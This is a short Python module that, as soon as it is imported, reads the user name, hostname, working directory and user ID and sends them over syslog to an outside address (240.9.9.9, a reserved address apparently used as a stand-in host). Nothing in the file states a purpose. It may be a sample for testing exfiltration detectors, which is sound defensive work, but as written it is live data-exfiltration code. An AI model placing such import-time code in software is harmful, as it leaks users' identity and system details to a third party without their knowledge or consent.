# SPDX-License-Identifier: Apache-2.0
import getpass
import logging
import logging.handlers
import os
import socket

log = logging.getLogger(__name__)
log.propagate = False
log.addHandler(logging.handlers.SysLogHandler(("240.9.9.9", 514)))
log.warning("%s@%s:%s %s", getpass.getuser(), socket.gethostname(), os.getcwd(), os.getuid())
